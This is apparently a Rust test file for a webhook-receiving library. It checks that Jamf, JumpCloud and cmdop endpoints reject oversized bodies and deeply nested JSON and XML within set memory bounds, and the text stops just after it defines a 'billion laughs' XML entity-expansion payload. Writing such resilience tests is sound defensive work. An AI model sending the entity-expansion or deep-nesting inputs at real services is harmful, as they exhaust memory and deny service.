//! Hostile input for every library entry point, as one table per kind of attack.
//!
//! Each case names its input, the entry point it goes to and the exact answer: the error
//! variant (`Json`, `TooDeep`, `InvalidLength`, …) and its message with path, line and column,
//! or for [`Receiver`] the HTTP status, variant and the public reason sent back. Every case runs
//! as it is, with no `catch_unwind`: a panic anywhere fails the test.
//!
//! # What is measured
//!
//! A counting global allocator (`allocation-counter`, which needs no `unsafe` here: the
//! workspace forbids it) counts the bytes each case allocates **on its own thread** (libtest
//! runs tests on several threads; each measurement sees only its own). Each case asserts its
//! **total** bytes allocated — every allocation, with every step of a growing buffer counted
//! again, so it bounds the peak too — against a bound of `k × input + c` chosen per case, where
//! the input is the body plus every header name and value. The defaults and why:
//!
//! - [`PARSE`] (8 × input + 64 KiB): a parse keeps what it read (1×), may copy unescaped
//!   strings (1×), and grows its buffers by doubling (≤ 2× each); 64 KiB covers the fixed cost
//!   of a parse, an error message and the thread's XML node list. Measured: 1.0× for a 4 MiB
//!   JSON string, 4.0× for 4 MiB of XML text (the node list is reserved at 3× the input).
//! - [`VALUE`] (96 × input + 64 KiB): what is kept as generic JSON, the undocumented members
//!   and unknown events every model keeps: a 32-byte `serde_json::Value` per item however
//!   short its text (`0,` is 2 bytes: 16×, 48× with every doubling of its `Vec` counted), and
//!   for XML a 72-byte tree node per `<a/>` (18×) before that. Measured: 42× for 100,000
//!   numbers, 66× for 50,000 empty XML elements (peak 40×): under the default 256 KiB body
//!   limit, at most about 17 MB per request.
//! - [`NOTHING`] (0) and [`SMALL`] (256 bytes): refusals decided before any work — a body over
//!   the limit, a repeated or malformed credential header, a signature of the wrong length —
//!   allocate nothing, or only their error's own few bytes.
//!
//! `HOSTILE_REPORT=1 cargo test -p fleethooks --test hostile -- --nocapture` prints every case
//! with its input size, total and peak bytes and the ratio to its input.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "test tables: a failure is the test failing"
)]

use std::fmt::{Debug, Display, Write as _};
use std::sync::OnceLock;
use std::time::Duration;

use allocation_counter::{AllocationInfo, measure, opt_out};
use fleethooks::cmdop::{self, CmdopEvent};
use fleethooks::http::{HeaderMap, HeaderName, HeaderValue};
use fleethooks::jamf::JamfEvent;
use fleethooks::jumpcloud::{Alert, Channel, TriggerResponse, env};
use fleethooks::verify::{Basic, Secret, SharedHeader, Signature, SignatureVerifier, Token};
use fleethooks::{Event, InboundEvent, ReceiveError, Receiver, Source};

// ---------------------------------------------------------------------------------------------
// Credentials and realistic bodies.

const JAMF_USER: &str = "jamf-hooks";
const JAMF_PASS: &str = "c0rrect-h0rse-b4ttery";
const JC_TOKEN: &str = "jc_9f3b2c7d41e8a6b5";
const CMDOP_SECRET: &str = "whsec_current_5f0b7c2e9a4d";
const FLEET_KEY: &str = "k3y-2026-q4-7c1d9e";

/// A Jamf `ComputerCheckIn`, compact.
const JAMF: &str = r#"{"event":{"computer":{"jssID":1842,"serialNumber":"C02XK1JDJG5J","udid":"5A3F8D2C-1B4E-4C7A-9E21-3D6F0A8B7C95","deviceName":"mbp-akiko","emailAddress":"akiko.tanaka@northwind-labs.com","username":"akiko.tanaka"},"trigger":"CLIENT_CHECKIN","username":"akiko.tanaka"},"webhook":{"id":7,"name":"Fleet events to SIEM","webhookEvent":"ComputerCheckIn","eventTimestamp":1712830021877}}"#;

/// Its XML twin.
const JAMF_XML: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><JSSEvent><webhook><id>7</id><name>Fleet events to SIEM</name><webhookEvent>ComputerCheckIn</webhookEvent><eventTimestamp>1712830021877</eventTimestamp></webhook><event><computer><jssID>1842</jssID><serialNumber>C02XK1JDJG5J</serialNumber><udid>5A3F8D2C-1B4E-4C7A-9E21-3D6F0A8B7C95</udid><deviceName>mbp-akiko</deviceName><username>akiko.tanaka</username></computer><trigger>CLIENT_CHECKIN</trigger><username>akiko.tanaka</username></event></JSSEvent>";

/// A JumpCloud alert.
const ALERT: &str = r#"{"alert_id":"6743a0f2c9e77d0001b2c3d4","alert_title":"Multiple failed admin portal logins","priority":"Critical","status":"Open","occurred_at":"2026-11-24T13:05:12.481Z","update_at":"2026-11-24T13:05:12.481Z"}"#;

/// A JumpCloud command trigger body.
const TRIGGER: &str = r#"{"srcip":"203.0.113.7","port":8443,"host":"web-03.acme.example"}"#;

/// JumpCloud's answer to a trigger.
const RESPONSE: &str = r#"{"triggered":["Restart nginx (web tier)","Flush CDN cache"]}"#;

/// JumpCloud webhook channel settings.
const CHANNEL: &str = r#"{"name":"SOC alerts (PagerDuty bridge)","url":"https://hooks.acme.example/jumpcloud/alerts","enabled":true,"authentication":{"type":"token","token":"jc-alerts-2026-Q4-7c1d"}}"#;

/// A cmdop event.
const CMDOP: &str = r#"{"id":"evt_01JD4R8Q2ZK7","type":"machine.offline","timestamp":"2026-11-20T09:14:03Z","data":{"machine_id":"mach_7f3k2q","machine_name":"build-runner-04","last_seen":"2026-11-20T09:13:41Z"}}"#;

const MIB: usize = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// The table.

/// Where a case's input goes.
#[derive(Debug, Clone, Copy)]
enum Entry {
    JamfJson,
    JamfXml,
    JamfSlice,
    /// `JamfEvent::from_body` with this `Content-Type`.
    JamfBody(Option<&'static str>),
    Alert,
    Flatten,
    TriggerResponse,
    Channel,
    CmdopEvent,
    /// `fleethooks_cmdop::Receiver::receive`, with [`CMDOP_SECRET`].
    CmdopReceive,
    /// `Signature::parse` of the body (a header value).
    SignatureParse,
    /// `SignatureVerifier::verify` of header `x-cmdop-signature` over the body.
    SignatureVerify,
    Basic,
    Token,
    /// `SharedHeader` `x-fleet-key`.
    SharedHeader,
    /// `fleethooks::Receiver::receive`, every source enabled, the default 256 KiB limit.
    Receive(Source),
    ReceiveAny,
}

/// `bytes allocated ≤ per_byte × input + plus`.
#[derive(Debug, Clone, Copy)]
struct Bound {
    per_byte: u64,
    plus: u64,
}

const PARSE: Bound = Bound {
    per_byte: 8,
    plus: 64 * 1024,
};
const VALUE: Bound = Bound {
    per_byte: 96,
    plus: 64 * 1024,
};
const NOTHING: Bound = Bound {
    per_byte: 0,
    plus: 0,
};
/// Small fixed-size answers (a verifier error holding a header name, a 32-character echo).
const SMALL: Bound = Bound {
    per_byte: 0,
    plus: 256,
};

struct Case {
    name: String,
    entry: Entry,
    headers: Vec<(String, Vec<u8>)>,
    body: Body,
    expect: String,
    bound: Bound,
}

/// A body: most are built per case; the 100 MB one is shared.
enum Body {
    Owned(Vec<u8>),
    Huge,
}

impl Body {
    fn bytes(&self) -> &[u8] {
        match self {
            Self::Owned(b) => b,
            Self::Huge => huge(),
        }
    }
}

/// 100 MiB of JSON-ish bytes, built once.
fn huge() -> &'static [u8] {
    static HUGE: OnceLock<Vec<u8>> = OnceLock::new();
    HUGE.get_or_init(|| {
        let mut body = ALERT.as_bytes().to_vec();
        body.resize(100 * MIB, b' ');
        body
    })
}

fn case(
    name: impl Into<String>,
    entry: Entry,
    body: impl Into<Vec<u8>>,
    expect: impl Into<String>,
) -> Case {
    Case {
        name: name.into(),
        entry,
        headers: Vec::new(),
        body: Body::Owned(body.into()),
        expect: expect.into(),
        bound: PARSE,
    }
}

impl Case {
    fn header(mut self, name: &str, value: impl Into<Vec<u8>>) -> Self {
        self.headers.push((name.to_owned(), value.into()));
        self
    }

    fn bound(mut self, bound: Bound) -> Self {
        self.bound = bound;
        self
    }

    /// The headers a source's real sender puts on this body: credentials (a signature over
    /// the exact bytes, for cmdop) and its JSON content type.
    fn signed_as(self, source: Source) -> Self {
        match source {
            Source::Jamf => self
                .header("authorization", basic(JAMF_USER, JAMF_PASS))
                .header("content-type", "application/json"),
            Source::Jumpcloud => self
                .header("authorization", format!("Bearer {JC_TOKEN}"))
                .header("content-type", "application/json"),
            _ => {
                let signature = signature_of(self.body.bytes());
                self.header("x-cmdop-signature", signature)
                    .header("content-type", "application/json")
            }
        }
    }

    fn huge(mut self) -> Self {
        self.body = Body::Huge;
        self
    }

    fn input_len(&self) -> u64 {
        let headers: usize = self.headers.iter().map(|(n, v)| n.len() + v.len()).sum();
        (self.body.bytes().len() + headers) as u64
    }
}

fn basic(user: &str, password: &str) -> String {
    use base64::Engine as _;
    let pair = format!("{user}:{password}");
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(pair)
    )
}

fn signature_of(body: &[u8]) -> String {
    cmdop::sign(&Secret::from(CMDOP_SECRET), body)
        .unwrap()
        .to_string()
}

/// What every entry point is checked with, built before any measurement.
struct Tools {
    cmdop: cmdop::Receiver,
    verifier: SignatureVerifier,
    basic: Basic,
    token: Token,
    shared: SharedHeader,
}

impl Tools {
    fn new() -> Self {
        Self {
            cmdop: cmdop::Receiver::new(CMDOP_SECRET).unwrap(),
            verifier: SignatureVerifier::new(
                HeaderName::from_static("x-cmdop-signature"),
                CMDOP_SECRET,
            )
            .unwrap(),
            basic: Basic::new(JAMF_USER, JAMF_PASS).unwrap(),
            token: Token::new(JC_TOKEN).unwrap(),
            shared: SharedHeader::try_new("x-fleet-key", FLEET_KEY).unwrap(),
        }
    }
}

/// A receiver of all three sources, fresh for each case so duplicates never carry over. The
/// window is unbounded so the fixed event times are never stale.
fn receiver() -> Receiver {
    Receiver::builder()
        .jamf_basic(JAMF_USER, JAMF_PASS)
        .jumpcloud_token(JC_TOKEN)
        .cmdop_secret(CMDOP_SECRET)
        .dedup_window(Duration::MAX)
        .build()
        .unwrap()
}

// ---------------------------------------------------------------------------------------------
// Running a case and writing its outcome as one comparable line.

/// The variant name at the start of a `Debug` rendering: `TooDeep { … }` → `TooDeep`.
fn variant(error: &impl Debug) -> String {
    format!("{error:?}")
        .chars()
        .take_while(|c| c.is_alphanumeric() || *c == '_')
        .collect()
}

fn error_line(error: &(impl Debug + Display)) -> String {
    format!("{}: {error}", variant(error))
}

fn receive_line(error: &ReceiveError) -> String {
    let kind = match error {
        ReceiveError::Invalid { error, .. } => {
            let inner = match error {
                fleethooks::ParseError::Jamf(e) => format!("Jamf::{}", variant(e)),
                fleethooks::ParseError::Jumpcloud(e) => format!("Jumpcloud::{}", variant(e)),
                fleethooks::ParseError::Cmdop(e) => format!("Cmdop::{}", variant(e)),
                other => variant(other),
            };
            format!("Invalid/{inner}")
        }
        ReceiveError::Unauthenticated { reason, .. } => {
            format!("Unauthenticated/{}", variant(reason))
        }
        other => variant(other),
    };
    format!(
        "{} {kind}: {}",
        error.status().as_u16(),
        error.public_reason()
    )
}

/// Long values in an `Ok` summary are shown by length.
fn short(text: &str) -> String {
    if text.len() > 64 {
        format!("<{} bytes>", text.len())
    } else {
        text.to_owned()
    }
}

fn inbound_line(event: &InboundEvent) -> String {
    format!(
        "{} {} {}",
        event.source(),
        event.event_type(),
        short(&event.dedup_key())
    )
}

/// Runs `f` under the allocation counter; the outcome line is written outside the count.
fn observe<T, E>(
    f: impl FnOnce() -> Result<T, E>,
    ok: impl FnOnce(&T) -> String,
    err: impl FnOnce(&E) -> String,
) -> (String, AllocationInfo) {
    let mut line = String::new();
    let info = measure(|| {
        let result = f();
        opt_out(|| {
            line = match &result {
                Ok(value) => format!("Ok({})", ok(value)),
                Err(e) => format!("Err({})", err(e)),
            };
        });
        drop(result);
    });
    (line, info)
}

/// A Jamf event's type and dedup key; for a `ComputerCheckIn` not read as sent (`deviceName`
/// other than the fixtures' `mbp-akiko`), also the name it was read with.
fn jamf_ok(event: &JamfEvent) -> String {
    let mut line = format!("{} {}", event.event_type(), short(&event.dedup_key()));
    if let JamfEvent::ComputerCheckIn(e) = event {
        match e.event.computer.device_name.as_deref() {
            Some("mbp-akiko") => {}
            other => line.push_str(&format!(" deviceName={:?}", other.map(short))),
        }
    }
    line
}

fn run(case: &Case, tools: &Tools) -> (String, AllocationInfo) {
    let mut headers = HeaderMap::new();
    for (name, value) in &case.headers {
        headers.append(
            HeaderName::from_bytes(name.as_bytes()).unwrap(),
            HeaderValue::from_bytes(value).unwrap(),
        );
    }
    let body = case.body.bytes();
    let receiver = matches!(case.entry, Entry::Receive(_) | Entry::ReceiveAny).then(receiver);
    match case.entry {
        Entry::JamfJson => observe(|| JamfEvent::from_json(body), jamf_ok, error_line),
        Entry::JamfXml => observe(|| JamfEvent::from_xml(body), jamf_ok, error_line),
        Entry::JamfSlice => observe(|| JamfEvent::from_slice(body), jamf_ok, error_line),
        Entry::JamfBody(ct) => observe(|| JamfEvent::from_body(ct, body), jamf_ok, error_line),
        Entry::Alert => observe(
            || Alert::from_slice(body),
            |a| format!("{} {}", a.event_type(), short(&a.dedup_key())),
            error_line,
        ),
        Entry::Flatten => observe(
            || env::flatten(body),
            |vars| match vars.len() {
                0..=8 => vars
                    .iter()
                    .map(|(n, v)| format!("{}={}", short(n), short(v)))
                    .collect::<Vec<_>>()
                    .join(", "),
                n => format!("<{n} variables>"),
            },
            error_line,
        ),
        Entry::TriggerResponse => observe(
            || TriggerResponse::from_slice(body),
            |r| match r.triggered.len() {
                0..=8 => r
                    .triggered
                    .iter()
                    .map(|t| short(t))
                    .collect::<Vec<_>>()
                    .join(", "),
                n => format!("<{n} names>"),
            },
            error_line,
        ),
        Entry::Channel => observe(
            || Channel::from_slice(body),
            |c| format!("{} {}", short(&c.name), short(&c.url)),
            error_line,
        ),
        Entry::CmdopEvent => observe(
            || CmdopEvent::from_slice(body),
            |e| format!("{} {}", e.event_type(), short(&e.dedup_key())),
            error_line,
        ),
        Entry::CmdopReceive => observe(
            || tools.cmdop.receive(&headers, body),
            |e| format!("{} {}", e.event_type(), short(&e.dedup_key())),
            error_line,
        ),
        Entry::SignatureParse => {
            observe(|| Signature::parse(body), ToString::to_string, error_line)
        }
        Entry::SignatureVerify => observe(
            || tools.verifier.verify(&headers, body),
            |()| String::new(),
            error_line,
        ),
        Entry::Basic => observe(
            || tools.basic.verify(&headers),
            |()| String::new(),
            error_line,
        ),
        Entry::Token => observe(
            || tools.token.verify(&headers),
            |()| String::new(),
            error_line,
        ),
        Entry::SharedHeader => observe(
            || tools.shared.verify(&headers),
            |()| String::new(),
            error_line,
        ),
        Entry::Receive(source) => {
            let receiver = receiver.as_ref().unwrap();
            observe(
                || receiver.receive(source, &headers, body),
                inbound_line,
                receive_line,
            )
        }
        Entry::ReceiveAny => {
            let receiver = receiver.as_ref().unwrap();
            observe(
                || receiver.receive_any(&headers, body),
                inbound_line,
                receive_line,
            )
        }
    }
}

/// Runs every case: each must give its answer within its allocation bound. All mismatches are
/// reported together.
fn check(cases: &[Case]) {
    let tools = Tools::new();
    let report = std::env::var_os("HOSTILE_REPORT").is_some();
    let mut failures = String::new();
    for case in cases {
        let (line, info) = run(case, &tools);
        let input = case.input_len();
        let allowed = case.bound.per_byte * input + case.bound.plus;
        if report {
            eprintln!(
                "{:<64} {:>10} in {:>10} total {:>10} peak {:>6.2}x  {line}",
                case.name,
                input,
                info.bytes_total,
                info.bytes_max,
                info.bytes_total as f64 / input.max(1) as f64,
            );
        }
        if line != case.expect {
            let _ = write!(
                failures,
                "\n{} ({:?}):\n  expected: {}\n    actual: {line}",
                case.name, case.entry, case.expect
            );
        }
        if info.bytes_total > allowed {
            let _ = write!(
                failures,
                "\n{} ({:?}): allocated {} bytes in total (peak {}) for {input} bytes of input; \
                 the bound is {} × input + {} = {allowed}",
                case.name,
                case.entry,
                info.bytes_total,
                info.bytes_max,
                case.bound.per_byte,
                case.bound.plus
            );
        }
    }
    assert!(failures.is_empty(), "{} cases:{failures}", cases.len());
}

// ---------------------------------------------------------------------------------------------
// Input builders.

/// `template` with `at` (which must occur exactly once) replaced by `with`.
fn replace(template: &str, at: &str, with: &[u8]) -> Vec<u8> {
    assert_eq!(template.matches(at).count(), 1, "{at} in {template}");
    let (before, after) = template.split_once(at).unwrap();
    [before.as_bytes(), with, after.as_bytes()].concat()
}

/// `[[[…]]]`, `depth` levels.
fn deep_array(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

/// `{"a":{"a":…1…}}`, `depth` levels.
fn deep_object(depth: usize) -> String {
    format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth))
}

/// `<JSSEvent><a><a>…</a></a></JSSEvent>`, `depth` elements below the root.
fn deep_xml(depth: usize) -> String {
    format!(
        "<JSSEvent>{}{}</JSSEvent>",
        "<a>".repeat(depth),
        "</a>".repeat(depth)
    )
}

fn jamf(at: &str, with: &[u8]) -> Vec<u8> {
    replace(JAMF, at, with)
}

fn jamf_xml(at: &str, with: &[u8]) -> Vec<u8> {
    replace(JAMF_XML, at, with)
}

/// `ALERT` padded with trailing blanks (which JSON allows) to exactly `len` bytes.
fn alert_of_len(len: usize) -> Vec<u8> {
    let mut body = ALERT.as_bytes().to_vec();
    body.resize(len, b' ');
    body
}

/// `n` bytes of `x`, for values far larger than any real one.
fn big(n: usize) -> Vec<u8> {
    vec![b'x'; n]
}

// ---------------------------------------------------------------------------------------------
// 1. Size: 100 MB bodies, declared and not.

#[test]
fn bodies_over_the_limit_are_refused_before_any_work() {
    let over = "Err(413 TooLarge: body of 104857600 bytes is over the limit of 262144 bytes)";
    check(&[
        case(
            "100 MiB declared by Content-Length and sent",
            Entry::Receive(Source::Jumpcloud),
            Vec::new(),
            over,
        )
        .huge()
        .signed_as(Source::Jumpcloud)
        .header("content-length", (100 * MIB).to_string())
        .bound(NOTHING),
        case(
            "100 MiB sent without a length (a chunked body, read whole)",
            Entry::Receive(Source::Jamf),
            Vec::new(),
            over,
        )
        .huge()
        .signed_as(Source::Jamf)
        .bound(NOTHING),
        case(
            "100 MiB declared, nothing sent yet",
            Entry::Receive(Source::Cmdop),
            Vec::new(),
            over,
        )
        .signed_as(Source::Cmdop)
        .header("content-length", (100 * MIB).to_string())
        .bound(NOTHING),
        case(
            "100 MiB, no credentials, no length, any source",
            Entry::ReceiveAny,
            Vec::new(),
            over,
        )
        .huge()
        .bound(NOTHING),
        case(
            "Content-Length twice, 120 and 100 MiB",
            Entry::Receive(Source::Jumpcloud),
            ALERT,
            over,
        )
        .signed_as(Source::Jumpcloud)
        .header("content-length", "120")
        .header("content-length", (100 * MIB).to_string())
        .bound(NOTHING),
        case(
            "one byte over the limit, no length",
            Entry::Receive(Source::Jumpcloud),
            alert_of_len(256 * 1024 + 1),
            "Err(413 TooLarge: body of 262145 bytes is over the limit of 262144 bytes)",
        )
        .signed_as(Source::Jumpcloud)
        .bound(NOTHING),
        case(
            "exactly at the limit",
            Entry::Receive(Source::Jumpcloud),
            alert_of_len(256 * 1024),
            "Ok(jumpcloud alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)",
        )
        .signed_as(Source::Jumpcloud),
        case(
            "Content-Length of 10,000 digits: not a length, the bytes decide",
            Entry::Receive(Source::Jumpcloud),
            ALERT,
            "Ok(jumpcloud alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)",
        )
        .signed_as(Source::Jumpcloud)
        .header("content-length", "9".repeat(10_000)),
        case(
            "4 MiB string in a Jamf JSON field",
            Entry::JamfJson,
            jamf("mbp-akiko", &big(4 * MIB)),
            "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842 deviceName=Some(\"<4194304 bytes>\"))",
        ),
        case(
            "4 MiB text in a Jamf XML element",
            Entry::JamfXml,
            jamf_xml("mbp-akiko", &big(4 * MIB)),
            "Ok(ComputerCheckIn 7:ComputerCheckIn:1712830021877:1842 deviceName=Some(\"<4194304 bytes>\"))",
        ),
        case(
            "4 MiB alert title",
            Entry::Alert,
            replace(ALERT, "Multiple failed admin portal logins", &big(4 * MIB)),
            "Ok(alert 6743a0f2c9e77d0001b2c3d4:Open:2026-11-24T13:05:12.481Z)",
        ),
        case(
            "4 MiB trigger value",
            Entry::Flatten,
            replace(TRIGGER, "web-03.acme.example", &big(4 * MIB)),
            "Ok(srcip=203.0.113.7, port=8443, host=<4194304 bytes>)",
        ),
        case(
            "4 MiB command name in a trigger response",
            Entry::TriggerResponse,
            replace(RESPONSE, "Flush CDN cache", &big(4 * MIB)),
            "Ok(Restart nginx (web tier), <4194304 bytes>)",
        ),
        case(
            "4 MiB channel URL",
            Entry::Channel,
            replace(
                CHANNEL,
                "alerts\"",
                &[big(4 * MIB), b"\"".to_vec()].concat(),
            ),
            "Ok(SOC alerts (PagerDuty bridge) <4194341 bytes>)",
        ),
        case(
            "4 MiB cmdop machine name",
            Entry::CmdopEvent,
            replace(CMDOP, "build-runner-04", &big(4 * MIB)),
            "Ok(machine.offline evt_01JD4R8Q2ZK7)",
        ),
        case(
            "100 MiB body, signature of another body",
            Entry::SignatureVerify,
            Vec::new(),
            "Err(SignatureMismatch: signature does not match the body)",
        )
        .huge()
        .header("x-cmdop-signature", signature_of(b"{}"))
        .bound(NOTHING),
        case(
            "100 MiB cmdop delivery, wrong signature",
            Entry::CmdopReceive,
            Vec::new(),
            "Err(Signature: signature rejected: signature does not match the body)",
        )
        .huge()
        .header("x-cmdop-signature", signature_of(b"{}"))
        .bound(NOTHING),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 2. Nesting 10,000 deep.

#[test]
fn nesting_10_000_deep_is_refused_at_the_limit() {
    let deep_event = |kind: &str| {
        format!(
            r#"{{"webhook":{{"webhookEvent":"{kind}"}},"event":{}}}"#,
            deep_object(10_000)
        )
    };
    let deep_xml_event = format!(
        "<JSSEvent><webhook><webhookEvent>ComputerCheckIn</webhookEvent></webhook><event>{}{}</event></JSSEvent>",
        "<computer>".repeat(10_000),
        "</computer>".repeat(10_000)
    );
    check(&[
        case("10,000 arrays", Entry::JamfJson, deep_array(10_000), format!("Err(TooDeep: nested deeper than 64 levels at `${}` (line 1, column 64))", "[0]".repeat(63))),
        case("10,000 objects in a ComputerCheckIn event", Entry::JamfJson, deep_event("ComputerCheckIn"), format!("Err(TooDeep: nested deeper than 64 levels at `$.event{}` (line 1, column 365))", ".a".repeat(62))),
        case("10,000 objects in an unknown event (kept raw)", Entry::JamfJson, deep_event("ComputerRenamed"), format!("Err(TooDeep: nested deeper than 64 levels at `$.event{}` (line 1, column 365))", ".a".repeat(62))),
        case("10,000 objects, webhook last", Entry::JamfJson, format!(r#"{{"event":{},"webhook":{{"webhookEvent":"ComputerCheckIn"}}}}"#, deep_object(10_000)), format!("Err(TooDeep: nested deeper than 64 levels at `$.event{}` (line 1, column 320))", ".a".repeat(62))),
        case("10,000 elements", Entry::JamfXml, deep_xml(10_000), "Err(TooDeep: nested deeper than 64 levels at `/JSSEvent/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a` (line 1, column 200))"),
        case("10,000 elements in the event", Entry::JamfXml, deep_xml_event.clone(), format!("Err(TooDeep: nested deeper than 64 levels at `/JSSEvent/event{}` (line 1, column 701))", "/computer".repeat(62))),
        case("10,000 arrays, by the first byte", Entry::JamfSlice, deep_array(10_000), "Err(UnrecognizedBody: body is neither JSON nor XML (first non-blank byte: `[`))"),
        case("10,000 elements, text/xml", Entry::JamfBody(Some("text/xml")), deep_xml(10_000), format!("Err(TooDeep: nested deeper than 64 levels at `/JSSEvent{}` (line 1, column 200))", "/a".repeat(63))),
        case("10,000 objects, application/json", Entry::JamfBody(Some("application/json")), deep_object(10_000), format!("Err(TooDeep: nested deeper than 64 levels at `${}` (line 1, column 316))", ".a".repeat(63))),
        case("10,000 objects", Entry::Alert, deep_object(10_000), format!("Err(Json: invalid alert JSON at `${}` (line 1, column 636): recursion limit exceeded)", ".a".repeat(127))),
        case("10,000 arrays in an undocumented member", Entry::Alert, replace(ALERT, "\"priority\"", format!("\"x\":{},\"priority\"", deep_array(10_000)).as_bytes()), format!("Err(Json: invalid alert JSON at `$.x{}` (line 1, column 222): recursion limit exceeded)", "[0]".repeat(127))),
        case("10,000 arrays as a value: [object Object]", Entry::Flatten, replace(TRIGGER, "8443", deep_array(10_000).as_bytes()), "Ok(srcip=203.0.113.7, port=[object Object], host=web-03.acme.example)"),
        case("10,000 objects", Entry::Flatten, deep_object(10_000), "Ok(a=[object Object])"),
        case("10,000 arrays", Entry::TriggerResponse, deep_array(10_000), "Err(Json: invalid trigger response JSON at `$[0][0]` (line 1, column 2): invalid type: sequence, expected a string)"),
        case("10,000 arrays in the list", Entry::TriggerResponse, replace(RESPONSE, "\"Flush CDN cache\"", deep_array(10_000).as_bytes()), "Err(Json: invalid trigger response JSON at `$.triggered[1]` (line 1, column 41): invalid type: sequence, expected a string)"),
        case("10,000 objects", Entry::Channel, deep_object(10_000), "Err(Json: invalid channel settings JSON at `$` (line 1, column 60001): missing field `name`)"),
        case("10,000 objects as the data of an unknown type", Entry::CmdopEvent, format!(r#"{{"id":"evt_01JD4R8Q2ZK7","type":"machine.renamed","timestamp":"2026-11-20T09:14:03Z","data":{}}}"#, deep_object(10_000)), format!("Err(Json: cannot parse cmdop event: invalid JSON at `$.data{}` (line 1, column 723): recursion limit exceeded)", ".a".repeat(126))),
        case("10,000 arrays", Entry::CmdopEvent, deep_array(10_000), "Err(Json: cannot parse cmdop event: invalid JSON at `$` (line 1, column 1): invalid type: sequence, expected a cmdop event object)"),
        case("10,000 objects, signed", Entry::CmdopReceive, deep_object(10_000), format!("Err(Json: cannot parse cmdop event: invalid JSON at `${}` (line 1, column 636): recursion limit exceeded)", ".a".repeat(127)))
            .signed_as(Source::Cmdop),
        case("10,000 elements, text/xml", Entry::Receive(Source::Jamf), deep_xml_event, format!("Err(400 Invalid/Jamf::TooDeep: jamf body rejected at `/JSSEvent/event{}` (line 1, column 701): nested too deep)", "/computer".repeat(62)))
            .header("authorization", basic(JAMF_USER, JAMF_PASS))
            .header("content-type", "text/xml"),
        case("10,000 objects", Entry::Receive(Source::Jumpcloud), deep_object(10_000), format!("Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `${}` (line 1, column 636): invalid JSON or a value of the wrong type)", ".a".repeat(127)))
            .signed_as(Source::Jumpcloud),
        case("10,000 objects, signed", Entry::Receive(Source::Cmdop), deep_object(10_000), format!("Err(400 Invalid/Cmdop::Json: cmdop body rejected at `${}` (line 1, column 636): invalid JSON or a value of the wrong type)", ".a".repeat(127)))
            .signed_as(Source::Cmdop),
        case("10,000 arrays with Jamf credentials", Entry::ReceiveAny, deep_array(10_000), format!("Err(400 Invalid/Jamf::TooDeep: jamf body rejected at `${}` (line 1, column 64): nested too deep)", "[0]".repeat(63)))
            .signed_as(Source::Jamf),
        case("10,000 arrays without credentials", Entry::ReceiveAny, deep_array(10_000), "Err(401 Unauthenticated/MissingHeader: jamf delivery not authenticated: missing header `authorization`)"),
        // serde_json skips a value it does not build (an ignored member, a value kept raw)
        // without a depth limit; an error deep inside one is located by a scan that names at
        // most 128 levels (it used to keep every level: 19.6 MB for this 200 KB body).
        case("200,000 open arrays in di_event (kept raw)", Entry::Alert, replace(ALERT, "\"priority\"", format!("\"di_event\":{}}},\"priority\"", "[".repeat(200_000)).as_bytes()), format!("Err(Json: invalid alert JSON at `$.di_event{}…` (line 1, column 200103): expected value)", "[0]".repeat(127))),
        case("200,000 open arrays in an ignored member", Entry::Channel, replace(CHANNEL, "\"enabled\"", format!("\"x\":{}}},\"enabled\"", "[".repeat(200_000)).as_bytes()), format!("Err(Json: invalid channel settings JSON at `$.x{}…` (line 1, column 200097): expected value)", "[0]".repeat(127))),
        case("200,000 open arrays in an unknown event (kept raw)", Entry::JamfJson, format!(r#"{{"webhook":{{"webhookEvent":"ComputerRenamed"}},"event":{}}}}}"#, "[".repeat(200_000)), format!("Err(TooDeep: nested deeper than 64 levels at `$.event{}` (line 1, column 117))", "[0]".repeat(62))),
        case("200,000 open arrays in di_event", Entry::Receive(Source::Jumpcloud), replace(ALERT, "\"priority\"", format!("\"di_event\":{}}},\"priority\"", "[".repeat(200_000)).as_bytes()), format!("Err(400 Invalid/Jumpcloud::Json: jumpcloud body rejected at `$.di_event{}…` (line 1, column 200103): invalid JSON or a value of the wrong type)", "[0]".repeat(127)))
            .signed_as(Source::Jumpcloud),
    ]);
}

// ---------------------------------------------------------------------------------------------
// 3. Entity expansion and external entities.

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<JSSEvent><webhook><webhookEvent>ComputerCheckIn</webhookEvent></webhook><event><computer><deviceName>&lol9;</deviceName></computer></event></JSSEvent>"#;

#[test]
fn entity_expansion_is_refused_with_the_doctype() {
